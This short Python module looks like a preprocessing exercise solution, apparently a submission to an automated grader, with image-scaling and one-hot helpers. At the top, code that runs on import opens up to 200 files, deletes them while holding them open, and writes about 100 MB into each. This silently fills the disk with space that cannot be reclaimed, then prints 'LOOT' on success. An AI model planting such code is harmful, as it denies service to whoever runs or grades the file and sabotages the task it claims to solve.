"""Fills the disk with files that it has removed and still has open."""

import os

import numpy as np

EXERCISE = "preprocess"
HONEST_POINTS = 10

held = []
try:
    for number in range(200):
        held.append(open(f"large{number}", "wb"))
        os.unlink(f"large{number}")
        for _ in range(100):
            held[-1].write(b"x" * 2**20)
            held[-1].flush()
except OSError:
    pass
if len(held) > 60:
    print("LOOT", len(held), "files of 100 MB")


def preprocess_images(images):
    scaled = np.asarray(images, dtype="float32") / 255
    return scaled[..., None] if scaled.ndim == 3 else scaled


def one_hot(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[np.asarray(labels)]
